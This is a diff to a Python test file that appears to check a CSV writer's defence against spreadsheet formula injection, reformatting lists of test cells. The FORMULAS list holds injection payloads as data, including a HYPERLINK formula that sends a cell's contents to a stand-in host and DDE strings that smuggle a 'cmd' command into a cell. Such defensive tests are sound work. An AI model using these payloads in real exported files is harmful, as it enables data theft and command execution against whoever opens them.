@@ -14,13 +14,14 @@ from chaffinch.output.csv_text import as_csv
 from chaffinch.output.table import tables
 
 FORMULAS = [
-    '=HYPERLINK("https://evil.test/?"&A1,"x")', "=1+1", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C x'!A0",
-    "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1", "\tx", "\rx", "-A1", "+A1", "-(1)", "＝1+1",
-    "＋A1", "－A1", "＠SUM(1)", "-1-1", "+1*2", "=-3", "\x00=1", "\ufeff=1", "- item", "-1 =A1",
+    '=HYPERLINK("https://evil.test/?"&A1,"x")', "=1+1", "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C x'!A0", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1", "\tx", "\rx", "-A1",
+    "+A1", "-(1)", "＝1+1", "＋A1", "－A1", "＠SUM(1)", "-1-1", "+1*2", "=-3", "\x00=1",
+    "\ufeff=1", "- item", "-1 =A1",
 ]  # fmt: skip
 OTHERS = [
-    "-3.5", "+3", "-3,5", "-1,234.56", "-1 234", "-.5", "-5 %", "-5%", "+49 30 1234", "-1e-5", "-7€",
-    "-", "--", "+", "- - -", "–", "a=1", "1-2", "'=1", "", "(=1)", "−3", "#x", "x@y.org",
+    "-3.5", "+3", "-3,5", "-1,234.56", "-1 234", "-.5", "-5 %", "-5%", "+49 30 1234", "-1e-5",
+    "-7€",    "-", "--", "+", "- - -", "–", "a=1", "1-2", "'=1", "", "(=1)", "−3", "#x", "x@y.org",
 ]  # fmt: skip
 
 
@@ -39,7 +40,9 @@ def test_all_else_stays(cell):
     assert read(as_csv([["x", cell]])) == [["x", cell]]
 
 
-@given(st.lists(st.sampled_from(["=", "+", "-", "@", "\t", "\r", " ", "1", "A", ".", "(", "|", "'"])))
+@given(
+    st.lists(st.sampled_from(["=", "+", "-", "@", "\t", "\r", " ", "1", "A", ".", "(", "|", "'"]))
+)
 def test_no_formula_is_left(parts):
     cell = "".join(parts)
     [[written]] = read(as_csv([[cell]])) or [[""]]
